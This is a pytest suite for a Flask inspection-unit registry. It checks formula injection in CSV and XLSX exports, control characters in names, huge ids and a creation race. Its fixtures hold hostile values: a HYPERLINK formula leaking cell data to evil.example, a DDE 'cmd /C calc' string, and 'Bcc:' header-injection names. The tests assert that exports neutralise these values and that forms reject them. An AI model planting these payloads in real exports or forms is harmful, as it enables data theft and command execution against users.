"""The registry against hostile input: formulae in exports, control characters in names,
ids beyond the database's integers, a race for one code (imported files: tests/imports)."""

from __future__ import annotations

import csv
import io
import re
import threading
import zipfile

import pytest
import sqlalchemy as sa
from flask_babel import gettext
from openpyxl import load_workbook

from inspections.auth.models import Role
from inspections.errors import InvalidInput
from inspections.teams.models import Team
from inspections.units import services as unit_services
from inspections.units.models import Unit, UnitKind
from inspections.units.services import ContactInput, create_unit
from tests.conftest import IsolatedClient, csrf_token

MB = 1_000_000
ONE_LINE = "Write this on one line, without tabs or control characters."
NOT_A_WORKBOOK = "The file is not a valid Excel (.xlsx) workbook."
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
HUGE = "99999999999999999999"


@pytest.fixture
def staff(db, make, client, login):
    user = make.user(Role.COORDINATOR, username="lan")
    db.session.commit()
    login("lan")
    return user


def _in_vietnamese(app, message: str) -> str:
    """The message as a Vietnamese page shows it (through the catalogue)."""
    with app.test_request_context():
        return gettext(message)


def _count(db) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Unit))


# --- 7. formulae in exports -------------------------------------------------------------


def _hostile_units(make) -> None:
    make.unit(code="q-evil", name=HYPERLINK, name_en="+cmd|' /C calc'!A0")
    make.unit(code="-dash", name="@SUM(1+1)", name_en="-5 phường")
    make.unit(code="q-plain", name="Quận Hà Đông", name_en="'=already quoted")


def test_the_xlsx_export_writes_formulae_as_text(db, make, client, staff):
    _hostile_units(make)
    db.session.commit()
    data = client.get("/units/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active  # not read-only: it reports each cell's type
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert cells["'" + HYPERLINK] == "s"
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-5 phường", "'-dash", "''=already quoted"} <= set(cells)
    assert all(not str(value).startswith(("=", "+", "-", "@", "\t")) for value in cells)


def test_the_csv_export_puts_an_apostrophe_before_a_formula(db, make, client, staff):
    _hostile_units(make)
    db.session.commit()
    text = client.get("/units/export.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + HYPERLINK, "'@SUM(1+1)", "Quận Hà Đông"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_plan_export_keeps_numbers_as_numbers_and_names_as_text(app, db, make, client, login):
    lan = make.user(Role.COORDINATOR, username="lan")
    plan = make.plan(coordinators=[lan])
    make.inspection(make.team(plan), make.unit(code="=1+1", name=HYPERLINK))
    db.session.commit()
    login("lan")
    book = load_workbook(io.BytesIO(client.get(f"/plans/{plan.id}/export.xlsx").data))
    progress = list(book.worksheets[0].iter_rows(min_row=2))
    assert progress and all(row[1].data_type == "n" and isinstance(row[1].value, int) for row in progress)
    targets = [[c.value for c in row] for row in book.worksheets[2].iter_rows(min_row=2)]
    assert targets[0][:2] == ["'=1+1", "'" + HYPERLINK]
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)


# --- 12. control characters in names --------------------------------------------------------


def test_a_contact_name_with_a_line_break_is_refused_with_a_message(app, db, client, staff):
    page = client.post(
        "/units/new",
        data={
            "csrf_token": csrf_token(client, "/units/new"),
            "code": "q-x",
            "name": "Quận X",
            "kind": "district",
            "contact_name": "Lan\r\nBcc: everyone@evil.example",
            "contact_email": "lan@hanoi.example",
            "contact_language": "vi",
        },
    )
    body = page.get_data(as_text=True)
    assert page.status_code == 200 and _in_vietnamese(app, ONE_LINE) in body
    assert _count(db) == 0


@pytest.mark.parametrize("name", ["Quận\nX", "Quận\x1bX", "Quận\u2028X", "Quận\tX"])
def test_the_service_refuses_control_characters_in_names(db, name, in_request):
    with pytest.raises(InvalidInput):
        create_unit(actor=None, code="q-x", name=name, kind=UnitKind.DISTRICT)
    with pytest.raises(InvalidInput):
        create_unit(
            actor=None,
            code="q-y",
            name="Quận Y",
            kind=UnitKind.DISTRICT,
            contact=ContactInput(name, "y@hanoi.example"),
        )


def test_a_team_name_or_a_users_name_with_a_line_break_is_refused(app, db, make, client, login):
    lan = make.user(Role.COORDINATOR, username="lan")
    plan = make.plan(coordinators=[lan])
    db.session.commit()
    login("lan")
    page = client.post(
        f"/teams/new/{plan.id}",
        data={
            "csrf_token": csrf_token(client, f"/teams/new/{plan.id}"),
            "name": "Đoàn 1\r\nBcc: x@evil.example",
            "kind": "joint",
            "visits_per_day": "1",
        },
    )
    assert page.status_code == 200 and _in_vietnamese(app, ONE_LINE) in page.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Team)) == 0
    with app.test_request_context(), pytest.raises(InvalidInput):
        make.user(Role.INSPECTOR, full_name="Trần Văn\nBình")


# --- 9. ids beyond the database's integers, and a race for one code -------------------------


@pytest.mark.parametrize(
    "query",
    [
        f"district={HUGE}",
        f"after={HUGE}",
        "after=2147483648",
        "district=-1",
        "after=²",
        f"page={HUGE}",
        "q=x%00",  # PostgreSQL cannot compare a text holding NUL
    ],
)
def test_a_huge_id_in_the_query_is_no_error(db, make, client, staff, query):
    make.unit(code="q-x", name="Quận X")
    db.session.commit()
    assert client.get(f"/units/?{query}").status_code == 200
    export = client.get(f"/units/export.csv?{query}")
    assert export.status_code == 200 and "q-x" in export.data.decode("utf-8-sig")


def test_five_simultaneous_creations_of_one_code_make_one_unit(app, db, make, monkeypatch):
    """All five pass the "is the code free?" check before any inserts (a barrier holds them
    there): one unit is created, the others are told, in Vietnamese, that the code is taken."""
    for n in range(5):
        make.user(Role.COORDINATOR, username=f"lan{n}")
    db.session.commit()
    app.test_client_class = IsolatedClient
    clients = []
    for n in range(5):
        c = app.test_client()
        token = csrf_token(c)
        c.post(
            "/login", data={"csrf_token": token, "username": f"lan{n}", "password": "correct horse battery"}
        )
        clients.append((c, csrf_token(c, "/units/new")))
    barrier = threading.Barrier(5, timeout=20)
    key = unit_services.search_key

    def after_the_check(text: str) -> str:
        if threading.current_thread() is not threading.main_thread():
            barrier.wait()
        return key(text)

    monkeypatch.setattr(unit_services, "search_key", after_the_check)
    answers: list[tuple[int, str]] = []

    def register(c, token) -> None:
        data = {
            "csrf_token": token,
            "code": "q-race",
            "name": "Quận Đua",
            "kind": "district",
            "contact_language": "vi",
        }
        response = c.post("/units/new", data=data, follow_redirects=True)
        answers.append((response.status_code, response.get_data(as_text=True)))

    threads = [threading.Thread(target=register, args=pair) for pair in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert sorted(status for status, _ in answers) == [200] * 5  # no 500
    taken = [body for _, body in answers if "Đã có đơn vị mang mã q-race." in body]
    assert len(taken) == 4, [re.findall(r"flash [a-z]+[^<]*</p>|<h1>[^<]*", b) for _, b in answers]
    db.session.rollback()
    assert db.session.scalar(sa.select(sa.func.count()).where(Unit.code == "q-race")) == 1
